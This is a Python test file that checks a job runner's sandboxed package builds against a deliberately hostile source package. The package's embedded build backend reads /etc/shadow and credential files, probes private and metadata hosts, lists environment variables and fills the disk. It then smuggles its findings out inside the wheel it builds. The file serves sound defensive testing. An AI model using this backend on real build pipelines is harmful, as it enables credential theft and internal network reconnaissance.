"""A hostile source package, built as a tenant's requirements are: its
build backend runs in the job's sandbox (the attempt's uid, no capability,
seccomp, its own network namespace behind the node's job-network rules, a
cgroup), and records what it could reach. Real uv, bubblewrap, nftables,
cgroups and test hosts in namespaces of their own; the package comes from
an index on the "public" test host, as the operator's RGRID_PIP_INDEX_URL
would name it (or as any source-only package on PyPI would run)."""

from __future__ import annotations

import io
import json
import os
import tarfile
import threading
from pathlib import Path

import pytest

import rgrid_runner
from rgrid_runner.build import BuildPlace, build_environment
from rgrid_runner.cgroups import CgroupManager
from rgrid_runner.confine import Confinement
from rgrid_runner.envs import EnvCache, InstallFailed
from rgrid_runner.jobnet import job_network
from rgrid_runner.limits import Limits
from rgrid_runner.runtimes import detect
from rgrid_runner.sandbox import choose
from rgrid_runner.settings import RunnerSettings
from rgrid_runner.slots import JobSlots
from rgrid_runner.workdisk import DiskLimits, WorkDisks
from tests.integration.test_job_network import node_address
from tests.support.testhosts import NetHost

# The package's build backend: it attacks when it is asked for a wheel,
# then ships what it found inside the wheel it builds.
BACKEND = r"""
import base64, hashlib, json, os, socket, urllib.request, zipfile

TARGETS = json.loads(%(targets)r)


def _attack():
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    found = {"uid": os.getuid(), "cap_eff": status["CapEff"].strip(), "env": sorted(os.environ)}
    for path in TARGETS["files"]:
        try:
            with open(path, "rb") as fh:
                found[path] = "read:" + fh.read(40).decode(errors="replace")
        except OSError as exc:
            found[path] = type(exc).__name__
    for host, port in TARGETS["connects"]:
        try:
            socket.create_connection((host, port), timeout=3).close()
            found[f"{host}:{port}"] = "open"
        except OSError as exc:
            found[f"{host}:{port}"] = type(exc).__name__
    for url in TARGETS["urls"]:
        try:
            found[url] = urllib.request.urlopen(url, timeout=5).read().decode()
        except OSError as exc:
            found[url] = type(exc).__name__
    return found


def get_requires_for_build_wheel(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if TARGETS.get("fill_bytes"):
        with open(os.path.join(os.environ["HOME"], "fill.bin"), "wb") as fill:
            for _ in range(TARGETS["fill_bytes"] // 2**20):
                fill.write(b"f" * 2**20)
    name = "rgrid_evil_build-1.0-py3-none-any.whl"
    info = "rgrid_evil_build-1.0.dist-info"
    files = {
        "rgrid_evil_report.py": "REPORT = %%r\n" %% json.dumps(_attack()),
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: rgrid-evil-build\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        for path, text in files.items():
            data = text.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record.append(f"{path},sha256={digest},{len(data)}")
            wheel.writestr(path, data)
        wheel.writestr(f"{info}/RECORD", "\n".join(record + [f"{info}/RECORD,,"]) + "\n")
    return name
"""

PYPROJECT = """\
[build-system]
requires = []
build-backend = "evil_backend"
backend-path = ["."]

[project]
name = "rgrid-evil-build"
version = "1.0"
"""


def publish_sdist(host: NetHost, targets: dict) -> str:
    """Put the package on the host as a simple index; its URL."""
    sdist = io.BytesIO()
    with tarfile.open(fileobj=sdist, mode="w:gz") as tar:
        for name, text in {
            "pyproject.toml": PYPROJECT,
            "evil_backend.py": BACKEND % {"targets": json.dumps(targets)},
            "PKG-INFO": "Metadata-Version: 2.1\nName: rgrid-evil-build\nVersion: 1.0\n",
        }.items():
            data = text.encode()
            member = tarfile.TarInfo(f"rgrid_evil_build-1.0/{name}")
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    files = host.served / "files"
    files.mkdir(exist_ok=True)
    (files / "rgrid_evil_build-1.0.tar.gz").write_bytes(sdist.getvalue())
    project = host.served / "simple" / "rgrid-evil-build"
    project.mkdir(parents=True, exist_ok=True)
    link = '<a href="../../files/rgrid_evil_build-1.0.tar.gz">rgrid_evil_build-1.0.tar.gz</a>'
    (project / "index.html").write_text(f"<!DOCTYPE html><html><body>{link}</body></html>\n")
    return f"http://{host.address}:{host.port}/simple/"


def test_a_hostile_build_runs_as_the_job_and_reaches_nothing_of_the_node(
    tmp_path: Path, net_hosts: dict[str, NetHost], listener: int
) -> None:
    sandbox = choose("bubblewrap")
    interp = detect()["python:3.11"]
    credential = tmp_path / "node-credential"
    credential.write_text("node-secret-credential")
    credential.chmod(0o600)
    grid_state = tmp_path / "grid-state.json"
    grid_state.write_text('{"api_key": "grid-secret"}')
    grid_state.chmod(0o644)
    public, private, metadata = net_hosts["public"], net_hosts["private"], net_hosts["metadata"]
    targets: dict[str, list] = {
        "files": [
            "/etc/shadow",
            str(credential),
            str(grid_state),
            rgrid_runner.__file__,
            "/root/.rgrid/credentials",
        ],
        "connects": [["127.0.0.1", listener], [node_address(), listener], [private.address, private.port]],
        "urls": [public.url, private.url, metadata.url],
    }
    index = publish_sdist(public, targets)
    network = job_network(RunnerSettings(), owner="test-build")
    network.install()
    confinement = Confinement(
        sandbox, CgroupManager(), Limits(memory_bytes=1024 * 2**20, cpu=1.0, max_pids=128), threading.Event()
    )
    cache = EnvCache(tmp_path / "envs", max_bytes=10**9, max_files=10**6)
    slots = JobSlots(tmp_path / "slots", 310_000, 2)
    disks = WorkDisks(tmp_path / "disks", DiskLimits(256 * 2**20, 20_000))
    with slots.claim() as user, network.attach("build-1") as netns:
        place = BuildPlace("test-build-1", user, netns, network.resolv_path, index_url=index)

        def build(home: Path) -> None:
            build_environment(confinement, place, disks, interp, "rgrid-evil-build==1.0\n", home, 300)

        with cache.use(interp, "rgrid-evil-build==1.0\n", build) as env:
            reports = list(env.path.glob("lib/python3.11/site-packages/rgrid_evil_report.py"))
            assert reports
            namespace: dict[str, str] = {}
            exec(reports[0].read_text(), namespace)
            found = json.loads(namespace["REPORT"])
            report_stat = reports[0].stat()
    assert found["uid"] == user.uid
    assert found["cap_eff"] == "0000000000000000"
    for path in targets["files"]:
        assert found[path] in ("FileNotFoundError", "PermissionError"), (path, found[path])
    for host, port in targets["connects"]:
        assert found[f"{host}:{port}"] != "open", (host, port)
    assert found[public.url] == public.body  # the internet, as a job has it
    assert found[private.url] != private.body and found[metadata.url] != metadata.body
    assert not {"RGRID_API_URL", "RGRID_WORKER_TOKEN", "RAY_AUTH_TOKEN", "RAY_AUTH_TOKEN_PATH"} & set(
        found["env"]
    )
    # Published sealed: the runner's, and no one else may write it.
    assert report_stat.st_uid == os.getuid() and not report_stat.st_mode & 0o022


def test_a_build_cannot_fill_the_nodes_disk(tmp_path: Path, net_hosts: dict[str, NetHost]) -> None:
    """The build writes on a disk of its own: a build script that writes
    64 MiB meets the limit (16 MiB here), fails with that reason, and
    nothing is cached or left mounted."""
    index = publish_sdist(
        net_hosts["public"], {"files": [], "connects": [], "urls": [], "fill_bytes": 64 * 2**20}
    )
    network = job_network(RunnerSettings(), owner="test-build")
    network.install()
    confinement = Confinement(
        choose("bubblewrap"),
        CgroupManager(),
        Limits(memory_bytes=512 * 2**20, cpu=1.0, max_pids=128),
        threading.Event(),
    )
    interp = detect()["python:3.11"]
    disks = WorkDisks(tmp_path / "disks", DiskLimits(16 * 2**20, 5_000))
    cache = EnvCache(tmp_path / "envs", max_bytes=10**9, max_files=10**6)
    with JobSlots(tmp_path / "slots", 310_000, 2).claim() as user, network.attach("build-3") as netns:
        place = BuildPlace("test-build-3", user, netns, network.resolv_path, index_url=index)

        def build(home: Path) -> None:
            build_environment(
                confinement,
                place,
                disks,
                interp,
                "rgrid-evil-build==1.0\n",
                home,
                300,
            )

        with (
            pytest.raises(
                InstallFailed, match=f"its build reached its limit of {16 * 2**20} bytes"
            ) as failed,
            cache.use(interp, "rgrid-evil-build==1.0\n", build),
        ):
            pass
    assert "No space left on device" in failed.value.output  # the installer's words, for the job's log
    assert not [p for p in (tmp_path / "envs").iterdir() if p.is_dir() and not p.name.startswith(".")]
    assert str(tmp_path) not in Path("/proc/self/mountinfo").read_text()


def test_a_build_is_bounded_in_time_and_fails_cleanly(tmp_path: Path, net_hosts: dict[str, NetHost]) -> None:
    """An index that never answers (the private host, which jobs cannot
    reach) fails the build within its time limit, and nothing is cached."""
    sandbox = choose("bubblewrap")
    interp = detect()["python:3.11"]
    network = job_network(RunnerSettings(), owner="test-build")
    network.install()
    confinement = Confinement(
        sandbox, CgroupManager(), Limits(memory_bytes=512 * 2**20, cpu=1.0, max_pids=64), threading.Event()
    )
    private = net_hosts["private"]
    cache = EnvCache(tmp_path / "envs", max_bytes=10**9, max_files=10**6)
    disks = WorkDisks(tmp_path / "disks", DiskLimits(64 * 2**20, 5_000))
    with JobSlots(tmp_path / "slots", 310_000, 2).claim() as user, network.attach("build-2") as netns:
        place = BuildPlace(
            "test-build-2",
            user,
            netns,
            network.resolv_path,
            f"http://{private.address}:{private.port}/simple/",
        )

        def build(home: Path) -> None:
            build_environment(confinement, place, disks, interp, "tomli-w==1.2.0\n", home, 20)

        with (
            pytest.raises(InstallFailed, match=r"failed \(exit|took over 20 s"),
            cache.use(interp, "tomli-w==1.2.0\n", build),
        ):
            pass
    assert not [p for p in (tmp_path / "envs").iterdir() if p.is_dir() and not p.name.startswith(".")]
